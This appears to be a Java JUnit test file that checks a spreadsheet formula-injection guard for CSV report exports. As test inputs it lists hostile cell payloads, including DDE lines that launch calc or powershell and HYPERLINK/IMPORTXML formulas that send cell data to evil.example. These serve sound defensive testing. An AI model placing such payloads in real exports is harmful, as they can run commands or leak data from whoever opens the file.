package devicehub.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a mail client may call itself, and a spreadsheet must never run. */
final class FormulaGuardTest {
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|'/C calc'!A0",
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
          "+1+1",
          "+cmd|'/C calc'!A0",
          "-2+3",
          "-cmd|'/C powershell'!A0",
          "@SUM(1+9)*cmd|'/C calc'!A0",
          "@A1");

  /** What may stand before a formula without keeping a spreadsheet from running it. */
  private static final List<String> DISGUISES = List.of("", " ", "\t", "\u00a0", "\ufeff", "\r\n");

  static Stream<String> sixtyPayloads() {
    return FORMULAS.stream().flatMap(formula -> DISGUISES.stream().map(d -> d + formula));
  }

  static Stream<String> formulasBehindSignsThatPartCells() {
    return Stream.of(";", "\t", "\n", "\r", "; ", ";\u200b").map(sign -> "a" + sign + "=1+1");
  }

  @ParameterizedTest
  @MethodSource("sixtyPayloads")
  @ValueSource(
      strings = {
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "\u3000＝1+1",
        "\t",
        "\tabc",
        "\rabc",
        "\nabc",
        "\u0000=1",
        "\u200b=1"
      })
  void whatWouldRunStartsWithAnApostrophe(String payload) throws IOException {
    assertThat(FormulaGuard.defang(payload)).startsWith("'").satisfies(onlyGuardsAdded(payload));
    assertThat(firstSignOfCell(payload)).isEqualTo('\'');
  }

  private static Consumer<String> onlyGuardsAdded(String payload) {
    return guarded -> assertThat(guarded.replace("'", "")).isEqualTo(payload.replace("'", ""));
  }

  @ParameterizedTest
  @MethodSource("formulasBehindSignsThatPartCells")
  void whatWouldRunInAReaderThatPartsCellsOtherwiseIsGuardedThere(String payload) {
    assertThat(FormulaGuard.defang(payload)).hasSize(payload.length() + 1).contains("'");
    assertThat(FormulaGuard.defang("a;=1+1")).isEqualTo("a;'=1+1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "jane.doe@acme.example",
        "ApplD8DTH6RCIH86",
        "a=b",
        "  padded",
        "SM-S921B",
        "iPhone14,2",
        "Merge by hand; retire the other.",
        "0049",
        "Müller",
        "'=1+1"
      })
  void whatIsHarmlessStaysAsItIs(String text) {
    assertThat(FormulaGuard.defang(text)).isSameAs(text);
  }

  @Test
  void aCellOfNothingButSignsIsReadOnce() {
    String hostile = "\n".repeat(65_536) + ";".repeat(65_536) + " ".repeat(65_536);

    assertThat(FormulaGuard.defang(hostile)).isEqualTo("'" + hostile);
  }

  private static char firstSignOfCell(String cell) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    new CsvText(bytes).cell(cell).endRow().flush();
    String written = bytes.toString(StandardCharsets.UTF_8);
    return written.charAt(written.startsWith("\"") ? 1 : 0);
  }
}
